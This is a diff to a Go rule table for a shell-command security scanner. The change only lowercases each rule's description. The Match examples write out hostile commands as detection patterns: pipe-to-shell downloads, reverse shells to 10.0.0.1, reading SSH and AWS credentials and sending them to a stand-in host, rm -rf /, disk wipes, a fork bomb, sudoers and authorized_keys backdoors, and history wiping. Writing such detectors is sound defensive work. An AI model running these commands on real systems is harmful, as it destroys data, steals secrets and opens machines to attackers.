@@ -30,7 +30,7 @@ func ruleOf(id string) *Rule {
 var rules = []Rule{
 	{
 		ID: "shell-download-to-shell", CWE: "CWE-494", Severity: "error",
-		Description: "What a download brings is run by a shell or an interpreter at once.",
+		Description: "what a download brings is run by a shell or an interpreter at once",
 		Match: []string{
 			"curl -fsSL https://x.example/i.sh | sh",
 			"wget -qO- https://x.example/i | sudo -E bash -s -- -y",
@@ -72,7 +72,7 @@ var rules = []Rule{
 	},
 	{
 		ID: "shell-download-and-run", CWE: "CWE-494", Severity: "error",
-		Description: "A file is downloaded and run without a look at it.",
+		Description: "a file is downloaded and run without a look at it",
 		Match: []string{
 			"curl -o /tmp/a https://x.example/a; sh /tmp/a",
 			"wget https://x.example/a.sh && chmod +x a.sh && ./a.sh",
@@ -88,7 +88,7 @@ var rules = []Rule{
 	},
 	{
 		ID: "shell-decoded-to-shell", CWE: "CWE-506", Severity: "error",
-		Description: "Encoded text is decoded and run.",
+		Description: "encoded text is decoded and run",
 		Match: []string{
 			"echo Y3VybCB4 | base64 -d | sh",
 			"base64 -d <<< Y3VybCB4 | bash",
@@ -111,13 +111,13 @@ var rules = []Rule{
 	},
 	{
 		ID: "shell-input-as-code", CWE: "CWE-95", Severity: "warning",
-		Description: "What somebody typed or sent is run as code.",
+		Description: "what somebody typed or sent is run as code",
 		Match:       []string{`read cmd; eval "$cmd"`, `eval "$QUERY_STRING"`, `read -r l && bash -c "$l"`},
 		NoMatch:     []string{`read name; echo "$name"`, `eval "$(ssh-agent -s)"`, `eval "$1"`},
 	},
 	{
 		ID: "shell-remove-root", CWE: "", Severity: "error",
-		Description: "The root, a system folder or a home folder is removed.",
+		Description: "the root, a system folder or a home folder is removed",
 		Match: []string{
 			"rm -rf /",
 			"rm -fr /*",
@@ -161,13 +161,13 @@ var rules = []Rule{
 	},
 	{
 		ID: "shell-remove-glob", CWE: "", Severity: "warning",
-		Description: "All that is where the script happens to stand is removed.",
+		Description: "all that is where the script happens to stand is removed",
 		Match:       []string{"rm -rf *", "rm -rf ./*", "rm -rf ..", "sudo rm -rf .*"},
 		NoMatch:     []string{"rm -rf *.o", "cd build && rm -rf *", "rm *.txt", "rm -rf dist/*"},
 	},
 	{
 		ID: "shell-wipe-device", CWE: "", Severity: "error",
-		Description: "A disk or a device is overwritten.",
+		Description: "a disk or a device is overwritten",
 		Match: []string{
 			"dd if=/dev/zero of=/dev/sda bs=1M",
 			"mkfs.ext4 /dev/sdb1",
@@ -187,19 +187,19 @@ var rules = []Rule{
 	},
 	{
 		ID: "shell-fork-bomb", CWE: "CWE-400", Severity: "error",
-		Description: "A function starts itself without end.",
+		Description: "a function starts itself without end",
 		Match:       []string{":(){ :|:& };:", "b() { b | b & }; b", "f(){ f & f & }"},
 		NoMatch:     []string{`f() { f "$1"; }`, "f() { g | g & }"},
 	},
 	{
 		ID: "shell-kill-all", CWE: "", Severity: "error",
-		Description: "All processes are ended.",
+		Description: "all processes are ended",
 		Match:       []string{"kill -9 -1", "sudo kill -KILL -1"},
 		NoMatch:     []string{"kill -9 1234", "kill -1 77"},
 	},
 	{
 		ID: "shell-open-permissions", CWE: "CWE-732", Severity: "error",
-		Description: "Files of the system are opened to everybody.",
+		Description: "files of the system are opened to everybody",
 		Match: []string{
 			"chmod -R 777 /",
 			"chmod 777 /etc/passwd",
@@ -211,7 +211,7 @@ var rules = []Rule{
 	},
 	{
 		ID: "shell-reverse-shell", CWE: "CWE-506", Severity: "error",
-		Description: "A shell is given to another machine.",
+		Description: "a shell is given to another machine",
 		Match: []string{
 			"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
 			"nc -e /bin/sh 10.0.0.1 4444",
@@ -238,7 +238,7 @@ var rules = []Rule{
 	},
 	{
 		ID: "shell-credential-file", CWE: "CWE-522", Severity: "warning",
-		Description: "A file of keys or passwords is read.",
+		Description: "a file of keys or passwords is read",
 		Match: []string{
 			"cat ~/.ssh/id_rsa",
 			"base64 $HOME/.aws/credentials",
@@ -266,7 +266,7 @@ var rules = []Rule{
 	},
 	{
 		ID: "shell-send-credentials", CWE: "CWE-200", Severity: "error",
-		Description: "Keys, passwords or the environment are sent to the network.",
+		Description: "keys, passwords or the environment are sent to the network",
 		Match: []string{
 			"cat ~/.ssh/id_rsa | curl -d @- https://x.example",
 			"curl -F f=@$HOME/.aws/credentials https://x.example",
@@ -291,7 +291,7 @@ var rules = []Rule{
 	},
 	{
 		ID: "shell-send-file", CWE: "CWE-200", Severity: "warning",
-		Description: "A file is sent to the network.",
+		Description: "a file is sent to the network",
 		Match: []string{
 			"curl -d @notes.txt https://x.example",
 			"curl -T a.tgz ftp://x.example",
@@ -313,7 +313,7 @@ var rules = []Rule{
 	},
 	{
 		ID: "shell-clear-history", CWE: "CWE-778", Severity: "warning",
-		Description: "The history of commands or a log is wiped or turned off.",
+		Description: "the history of commands or a log is wiped or turned off",
 		Match: []string{
 			"history -c",
 			"unset HISTFILE",
@@ -339,7 +339,7 @@ var rules = []Rule{
 	},
 	{
 		ID: "shell-security-off", CWE: "CWE-693", Severity: "error",
-		Description: "A protection of the machine is turned off.",
+		Description: "a protection of the machine is turned off",
 		Match: []string{
 			"setenforce 0",
 			"systemctl stop firewalld",
@@ -366,7 +366,7 @@ var rules = []Rule{
 	},
 	{
 		ID: "shell-tls-off", CWE: "CWE-295", Severity: "warning",
-		Description: "The check of who is at the other end is turned off.",
+		Description: "the check of who is at the other end is turned off",
 		Match: []string{
 			"curl -k https://x.example",
 			"curl -sSLk https://x.example",
@@ -386,7 +386,7 @@ var rules = []Rule{
 	},
 	{
 		ID: "shell-persistence", CWE: "CWE-506", Severity: "warning",
-		Description: "Something is set to run again later: by cron, a login, a service, a hook.",
+		Description: "something is set to run again later: by cron, a login, a service, a hook",
 		Match: []string{
 			"echo '* * * * * x' | crontab -",
 			"(crontab -l; echo '* * * * * x') | crontab -",
@@ -404,7 +404,7 @@ var rules = []Rule{
 	},
 	{
 		ID: "shell-authorized-keys", CWE: "CWE-506", Severity: "error",
-		Description: "A key is let in to an account.",
+		Description: "a key is let in to an account",
 		Match: []string{
 			"echo 'ssh-rsa AAAA' >> ~/.ssh/authorized_keys",
 			"cat k.pub | tee -a /root/.ssh/authorized_keys",
@@ -418,7 +418,7 @@ var rules = []Rule{
 	},
 	{
 		ID: "shell-preload", CWE: "CWE-426", Severity: "warning",
-		Description: "A library is put before all others of a program.",
+		Description: "a library is put before all others of a program",
 		Match: []string{
 			"LD_PRELOAD=/tmp/x.so ls",
 			"export LD_PRELOAD=./x.so",
@@ -430,7 +430,7 @@ var rules = []Rule{
 	},
 	{
 		ID: "shell-privileges", CWE: "CWE-269", Severity: "error",
-		Description: "Somebody is given the rights of root.",
+		Description: "somebody is given the rights of root",
 		Match: []string{
 			"echo 'me ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers",
 			"echo x | sudo tee /etc/sudoers.d/me",
@@ -452,7 +452,7 @@ var rules = []Rule{
 	},
 	{
 		ID: "shell-cloud-metadata", CWE: "CWE-522", Severity: "warning",
-		Description: "The address is asked where a cloud gives out its machines' credentials.",
+		Description: "the address is asked where a cloud gives out its machines' credentials",
 		Match: []string{
 			"curl http://169.254.169.254/latest/meta-data/iam/security-credentials/",
 			"wget -qO- http://metadata.google.internal/computeMetadata/v1/",
@@ -461,7 +461,7 @@ var rules = []Rule{
 	},
 	{
 		ID: "shell-privileged-container", CWE: "CWE-250", Severity: "warning",
-		Description: "A container is given the machine it runs on.",
+		Description: "a container is given the machine it runs on",
 		Match: []string{
 			"docker run --privileged -it alpine sh",
 			"docker run -v /:/host alpine",
@@ -472,7 +472,7 @@ var rules = []Rule{
 	},
 	{
 		ID: "shell-password-argument", CWE: "CWE-214", Severity: "warning",
-		Description: "A password is an argument of a command, where everybody sees it.",
+		Description: "a password is an argument of a command, where everybody sees it",
 		Match: []string{
 			"sshpass -p s3cret ssh host",
 			"curl -u me:s3cret https://x.example",
